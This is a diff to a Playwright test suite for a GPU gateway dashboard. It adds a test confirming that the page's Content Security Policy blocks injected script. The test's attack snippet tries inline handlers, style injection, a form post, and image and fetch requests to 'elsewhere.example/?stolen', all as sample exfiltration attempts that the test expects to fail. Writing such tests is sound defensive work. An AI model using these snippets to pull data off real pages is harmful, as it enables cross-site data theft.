@@ -47,7 +47,7 @@ async def test_lost_connections_are_said_and_found_again(visit: Visit, gateway: 
     await expect(visit.page.locator("#status-sentence")).to_contain_text("has not reached the gateway since")
     await visit.page.context.set_offline(False)
     await expect(visit.page.get_by_role("heading", name="No requests")).to_be_visible(timeout=NEXT_POLL_MS)
-    visit.complaints.clear()  # the browser's own, of having been offline
+    visit.forget()  # the browser's own complaints of having been offline
 
 
 async def test_an_hour_of_two_gpus_is_all_there(browser: Browser, tmp_path: Path):
@@ -101,6 +101,33 @@ async def test_a_worker_that_is_down_is_named(browser: Browser, tmp_path: Path):
         await expect(visit.page.get_by_role("heading", name="A worker is down")).to_be_visible()
         await expect(visit.page.locator(".worker", has_text="cuda:1")).to_contain_text("down")
 
+
+async def test_code_that_gets_in_neither_runs_nor_reports_anywhere(visit: Visit, gateway: Gateway):
+    await sign_in(visit, gateway)
+    await visit.page.evaluate(ATTACK)
+    for directive in ("require-trusted-types-for", "style-src-attr", "img-src", "connect-src", "form-action"):
+        await visit.page.wait_for_function("wanted => globalThis.forbidden.has(wanted)", arg=directive)
+    assert await visit.page.evaluate("globalThis.hasRun") is None
+    visit.forget()
+
+
+# What somebody would try whose text got into the page. `forbidden` has the directives that stood against it.
+ATTACK = """async () => {
+  globalThis.forbidden = new Set();
+  document.addEventListener("securitypolicyviolation", event => forbidden.add(event.effectiveDirective));
+  const button = document.createElement("button");
+  const form = Object.assign(document.createElement("form"), { action: "https://elsewhere.example/" });
+  const attempts = [
+    () => { document.body.innerHTML += "<b>markup</b>"; },
+    () => { button.setAttribute("onclick", "globalThis.hasRun = true"); },
+    () => { document.body.append(button, form); button.click(); },
+    () => { document.body.setAttribute("style", "color: red"); },
+    () => { document.body.append(Object.assign(new Image(), { src: "https://elsewhere.example/?stolen" })); },
+    () => fetch("https://elsewhere.example/?stolen"),
+    () => form.submit(),
+  ];
+  for (const attempt of attempts) await Promise.resolve().then(attempt).catch(() => {});
+}"""
 
 # How much of a canvas is not transparent.
 PAINTED_SHARE = """canvas => {
